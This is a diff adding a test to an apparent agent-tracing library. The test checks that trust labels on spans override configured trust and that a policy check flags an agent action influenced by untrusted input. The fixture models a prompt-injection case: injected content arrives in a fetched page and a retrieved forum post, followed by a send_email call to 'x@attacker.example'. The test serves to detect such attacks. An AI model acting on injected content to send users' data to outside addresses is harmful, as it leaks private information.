@@ -97,6 +97,41 @@ def test_genai_spans_become_steps_in_start_order_with_agents_reads_and_trust(
     assert violation is not None and violation.step == send.index
 
 
+def test_a_trust_label_on_a_span_wins_over_the_configured_trust(tmp_path: Path) -> None:
+    """The code that made a span knows where its output came from: ``mattrace.trusted`` on a tool span, and
+    ``trusted`` on one retrieved document, override the processor's configuration either way."""
+    provider = TracerProvider()
+    install(provider, side_effects=SEND, trusted_tools=["fetch_*"], trusted_retrievers=["retrieve"])
+    tracer = provider.get_tracer("test")
+    try:
+        with mattrace.record("labels", dir=tmp_path) as rec:
+            with tracer.start_as_current_span("execute_tool fetch_page", attributes={
+                    "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "fetch_page",
+                    "gen_ai.tool.call.result": INJECTED, "mattrace.trusted": False}):
+                pass
+            with tracer.start_as_current_span("execute_tool lookup", attributes={
+                    "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "lookup",
+                    "gen_ai.tool.call.result": "ok", "mattrace.trusted": True}):
+                pass
+            with tracer.start_as_current_span("retrieve", attributes={
+                    "openinference.span.kind": "RETRIEVER", "input.value": "refunds",
+                    "retrieval.documents.0.document.id": "kb1", "retrieval.documents.0.document.content": "14 days",
+                    "retrieval.documents.1.document.id": "forum7", "retrieval.documents.1.document.content": INJECTED,
+                    "retrieval.documents.1.document.trusted": False}):
+                pass
+            with tracer.start_as_current_span("execute_tool send_email", attributes={
+                    "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "send_email",
+                    "gen_ai.tool.call.arguments": '{"to": "x@attacker.example"}', "gen_ai.tool.call.result": "sent"}):
+                pass
+    finally:
+        provider.shutdown()
+    fetch, lookup, retrieve, send = rec.trace.steps[:4]
+    assert fetch.untrusted and not lookup.untrusted
+    assert [(s.ref, s.trusted) for s in retrieve.sources] == [("kb1", True), ("forum7", False)]
+    violation = mattrace.check(rec.trace, [no_untrusted_action()]).first_violation
+    assert violation is not None and violation.step == send.index and 0 in violation.witness
+
+
 def test_openinference_spans_are_read_from_their_flattened_attributes(
         tracing: tuple[otel_trace.Tracer, MatSpanProcessor], tmp_path: Path) -> None:
     tracer, _ = tracing
